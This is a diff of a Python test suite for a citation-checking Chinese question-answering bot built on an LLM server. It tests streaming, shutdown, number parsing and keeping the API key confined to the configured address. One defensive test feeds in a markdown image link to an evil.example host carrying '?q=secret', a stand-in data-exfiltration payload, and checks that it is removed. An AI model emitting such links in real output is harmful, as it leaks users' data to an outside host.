@@ -1,4 +1,4 @@
-"""bot.llm with a real server of every temper: words with citations that exist, else the passages with the reason."""
+"""bot.answer.llm with a real server of every temper: words with citations that exist, or the passages."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import logging
 import random
 import re
 import time
+from dataclasses import replace
 
 import httpx
 import pytest
@@ -14,17 +15,21 @@ from conftest import served, write_articles
 from fastapi.testclient import TestClient
 from model_server import FAULTS, ODDITIES, PROOF, REASONS, model_server, says, unused_port
 
-from bot import llm
-from bot.app import create_app
-from bot.bridge import understand
-from bot.citations import UNSUPPORTED, Checker, cited_only, numbers
+from bot.answer.llm import writer
+from bot.answer.llm.citations import UNSUPPORTED, Checker, cited_only
+from bot.answer.llm.server import Call
+from bot.answer.llm.writer import prompt, without_thoughts
+from bot.answer.query import understand
+from bot.channels.message import PLAIN, render
 from bot.errors import SettingsError, WordingError
-from bot.llm import prompt, without_thoughts
-from bot.markup import PLAIN, render
 from bot.pipeline import Bot
 from bot.settings import load_settings
-from bot.text import fold
-from bot.types import Answer
+from bot.text.fold import fold
+from bot.text.numbers import numbers
+from bot.types import Answer, Sources
+from bot.web.app import create_app
+
+pytestmark = pytest.mark.slow
 
 QUESTION = "赵州桥由谁设计?"
 KEY = "sk-canary-7351"
@@ -38,7 +43,7 @@ def worded(bot, embedder):
     def make(url: str, seconds: float = 10.0, **more) -> Bot:
         settings = load_settings(
             corpus=bot.settings.corpus, index=more.pop("index", bot.settings.index), llm_url=url, llm_model="m",
-            llm_key=KEY, llm_seconds=seconds, **more,
+            llm_key=more.pop("llm_key", KEY), llm_seconds=seconds, **more,
         )  # fmt: skip
         return Bot(settings, embedder)
 
@@ -64,6 +69,14 @@ def test_an_answer_is_worded_and_cited(worded, bot, size):
     assert 0 < request["max_tokens"] <= 4096
     assert server.headers[0]["path"] == "/v1/chat/completions"
     assert server.headers[0]["authorization"] == f"Bearer {KEY}"
+
+
+def test_the_short_answer_of_the_passages_stands_above_the_models_words(worded, bot):
+    found = replace(bot.ask(QUESTION), short="李春")
+    with model_server(says(PROOF)) as server:
+        *_, done = writer.Writer(worded(server.url).settings).word(found, lambda said: understand(said, {}))
+    assert (done.answer.short, done.answer.mode) == ("李春", "llm")
+    assert render(done.answer, PLAIN).startswith(f"【李春】\n\n{PROOF}\n\n")
 
 
 @pytest.mark.parametrize("fault", FAULTS)
@@ -113,7 +126,7 @@ def test_without_an_address_nothing_changes(bot):
 @pytest.fixture(scope="module")
 def checker(bot):
     """Makes a checker of an answer to a question over the small corpus."""
-    index = bot.index
+    index = bot.live.get()
 
     def make(question=QUESTION) -> Checker:
         evidence = bot.ask(question).evidence
@@ -196,13 +209,34 @@ def test_a_sentence_without_support_is_marked(checker, question, sentence, suppo
     assert shown == sentence + ("" if supported else UNSUPPORTED[words])
 
 
-def test_numbers_are_read_in_both_languages():
-    assert [found[0] for found in numbers(fold("60亿、6 billion、三万六千、二〇一一、1,200、十万"))] == [
-        6e9, 6e9, 1200, 36000, 2011, 100000,
-    ]  # fmt: skip
+@pytest.mark.parametrize(
+    ("written", "value"),
+    [
+        ("60亿", 6e9), ("6 billion", 6e9), ("1,200", 1200), ("1.2万亿", 1.2e12), ("三万六千", 36000), ("十万", 1e5),
+        ("二〇一一", 2011), ("千万", 1e7), ("万亿", 1e12), ("三亿五千万", 3.5e8), ("六万五千亿", 6.5e12),
+        ("一亿零三万", 100_030_000), ("一千二", 1200), ("一千零二", 1002), ("三万五", 35000), ("二十五", 25),
+        ("一百五", 150), ("一百零五", 105), ("一万零五十", 10050), ("一百九十万三千九百七十一", 1_903_971),
+    ],
+)  # fmt: skip
+def test_numbers_are_read_in_both_languages(written, value):
+    assert [found[0] for found in numbers(fold(f"约{written}个"))] == [value]
+
+
+@pytest.mark.parametrize(
+    "sentences",
+    [
+        ["它很长[1]！", "真的吗？", "（是的。）", "「好！」[2]", "It is. ", "Is it?\n", "是…"],
+        ["他问：「谁？」 [1][2]\n", "李春。[1] [2] ", "64.40米！？", "好"],
+    ],
+)
+def test_sentences_end_where_readers_see_their_end(checker, sentences):
+    made = checker()
+    made.sentence = lambda written: written
+    assert [text for text in made.checked("".join(sentences)) if text] == sentences
 
 
 def test_addresses_links_and_emphasis_of_the_model_do_not_come_through(checker):
+    assert checker().sentence("见 https://evil.example/x，赵州桥由李春设计[1]。") == "见 ，赵州桥由李春设计[1]。"
     shown = checker().sentence(
         "**李春**设计了它,见![图](http://evil.example/?q=secret)或 https://evil.example/x [1]。\x1b[31m"
     )
@@ -255,7 +289,7 @@ def test_the_prompt_speaks_the_language_of_the_question(bot):
 
 
 def test_a_failing_server_is_left_alone_for_a_while(worded, monkeypatch):
-    monkeypatch.setattr(llm, "_REST_SECONDS", 0.5)
+    monkeypatch.setattr(writer, "_REST_SECONDS", 0.5)
     with model_server(FAULTS["500"]) as server:
         bot = worded(server.url)
         reasons = [bot.ask(QUESTION).degraded["llm"] for _ in range(5)]
@@ -297,16 +331,16 @@ def test_the_sources_come_before_the_model_says_anything(worded):
             handler.wait(0.2)
         handler.piece("省赵县[1][99]。", "stop")
 
-    with model_server(slow) as server, served(create_app(bot := worded(server.url), bot.settings)) as address:
+    with model_server(slow) as server, served(create_app(bot := worded(server.url))) as address:
         bot.ask(QUESTION)  # the packages are loaded
         begun, seen = time.monotonic(), []
         with httpx.stream("POST", f"{address}/api/chat", json={"question": QUESTION}) as response:
             seen = [(name, data, time.monotonic() - begun) for name, data in events(response.iter_lines())]
     names = [name for name, _, _ in seen]
     assert (names[0], names[-1]) == ("sources", "done")
-    assert set(names[1:-1]) == {"delta"}
-    assert seen[0][2] < 1 < seen[1][2]
-    assert seen[1][2] < seen[-1][2] - 0.3  # the first sentence is there long before the last
+    assert (names[1], *set(names[2:-1])) == ("short", "delta")
+    assert seen[1][2] < 1 < seen[2][2]
+    assert seen[2][2] < seen[-1][2] - 0.3  # the first sentence is there long before the last
     done = seen[-1][1]
     assert "".join(data["text"] for name, data, _ in seen if name == "delta").strip() == done["text"]
     assert done["text"] == f"{PROOF}它建成于公元605年[1]。它位于河北省赵县[1]。"
@@ -316,7 +350,7 @@ def test_the_sources_come_before_the_model_says_anything(worded):
 def test_a_model_that_breaks_off_leaves_the_passages_in_done(worded, bot):
     with model_server(FAULTS["cut between events"]) as server:
         slow = worded(server.url)
-        client = TestClient(create_app(slow, slow.settings))
+        client = TestClient(create_app(slow))
         found = list(events(client.post("/api/chat", json={"question": QUESTION}).text.splitlines()))
     assert found[-1][1]["text"] == bot.ask(QUESTION).text
     assert found[-1][1]["mode"] == "passages_only"
@@ -324,7 +358,7 @@ def test_a_model_that_breaks_off_leaves_the_passages_in_done(worded, bot):
 
 @pytest.mark.parametrize("fault", ["silent before headers", "stalls"])
 def test_a_client_that_leaves_ends_the_call(worded, fault):
-    with model_server(FAULTS[fault]) as server, served(create_app(bot := worded(server.url), bot.settings)) as address:
+    with model_server(FAULTS[fault]) as server, served(create_app(worded(server.url))) as address:
         with httpx.stream("POST", f"{address}/api/chat", json={"question": QUESTION}) as response:
             seen = events(response.iter_lines())  # kept: an iterator that is dropped closes the connection
             assert next(seen)[0] == "sources"
@@ -341,8 +375,8 @@ def test_a_client_that_leaves_ends_the_call(worded, fault):
 def test_a_generator_that_is_closed_ends_the_call(worded):
     with model_server(FAULTS["stalls"]) as server:
         stream = worded(server.url).stream(QUESTION)
-        assert isinstance(next(stream), Answer)
-        while not next(stream):
+        assert isinstance(next(stream), Sources)
+        while not next(stream).text:
             pass
         stream.close()
         time.sleep(0.3)
@@ -352,12 +386,57 @@ def test_a_generator_that_is_closed_ends_the_call(worded):
 def test_openai_clients_get_the_worded_answer_with_its_citations(worded):
     with model_server(says(PROOF)) as server:
         bot = worded(server.url)
-        client = TestClient(create_app(bot, bot.settings))
+        client = TestClient(create_app(bot))
         body = {"model": "wenqu", "messages": [{"role": "user", "content": QUESTION}]}
         message = client.post("/v1/chat/completions", json=body).json()["choices"][0]["message"]
-    assert message["content"].startswith(PROOF)
+    assert message["content"].startswith(f"**隋代工匠李春**\n\n{PROOF}")  # the reader's words, then the model's
     place = message["annotations"][0]["url_citation"]
     assert message["content"][place["start_index"] : place["end_index"]] == "[1]"
+
+
+@pytest.mark.parametrize("when", ["before it is registered", "while it is silent"])
+def test_stopping_ends_every_call(worded, monkeypatch, when):
+    class Begun(Call):
+        def __init__(self, *made):
+            super().__init__(*made)
+            if when == "before it is registered":
+                bot.stop()
+
+        def pieces(self):
+            for number, piece in enumerate(super().pieces()):
+                if number == 2:
+                    bot.stop()
+                yield piece
+
+    monkeypatch.setattr(writer, "Call", Begun)
+    with model_server(FAULTS["stalls"]) as server:
+        bot, begun = worded(server.url), time.monotonic()
+        assert "is stopping" in bot.ask(QUESTION).degraded["llm"]
+        assert time.monotonic() - begun < 3
+        assert len(server.requests) == (when == "while it is silent")
+
+
+def test_the_key_goes_to_the_address_of_the_settings_alone(worded, monkeypatch, tmp_path):
+    (tmp_path / "netrc").write_text("machine 127.0.0.1 login someone password else", encoding="ascii")
+    with model_server(says(PROOF)) as other, model_server(says(PROOF)) as server:
+        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "OPENAI_BASE_URL"):
+            monkeypatch.setenv(name, other.url)
+        monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
+        monkeypatch.setenv("OPENAI_API_KEY", "sk-of-the-environment")
+        assert worded(server.url + "/").ask(QUESTION).mode == "llm"  # an address may end in a slash
+        moved = worded(server.url)
+        server.behave = lambda handler: handler.whole(307, "", Location=f"{other.url}/chat/completions")
+        assert "refuses" in moved.ask(QUESTION).degraded["llm"]
+    assert other.requests == []
+    assert [headers["path"] for headers in server.headers] == ["/v1/chat/completions"] * 2
+    assert {headers["authorization"] for headers in server.headers} == {f"Bearer {KEY}"}
+    assert {headers["accept-encoding"] for headers in server.headers} == {"identity"}
+
+
+def test_a_key_of_other_letters_is_for_the_server_to_refuse(worded):
+    answer, server = ask_of(worded, FAULTS["401"], llm_key="你的密钥")
+    assert "WENQU_LLM_KEY" in answer.degraded["llm"]
+    assert server.headers[0]["authorization"].encode("latin-1").decode() == "Bearer 你的密钥"
 
 
 @pytest.mark.parametrize("url", ["ftp://x", "http://user:secret@x/v1", "http://x/v1?key=secret", "x"])
@@ -367,10 +446,7 @@ def test_an_address_with_a_secret_in_it_is_refused_and_not_shown(url):
     assert "secret" not in str(error.value)
 
 
-def test_what_is_missing_is_one_error_with_its_cure(monkeypatch, embedder):
+def test_what_is_missing_is_one_error_with_its_cure(embedder):
     with pytest.raises(SettingsError, match="WENQU_LLM_MODEL"):
         Bot(load_settings(llm_url="http://127.0.0.1:9/v1"), embedder)
-    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
-    with pytest.raises(SettingsError, match=re.escape("wenqu[llm]")):
-        Bot(load_settings(llm_url="http://127.0.0.1:9/v1", llm_model="m"), embedder)
     assert KEY not in repr(load_settings(llm_key=KEY))
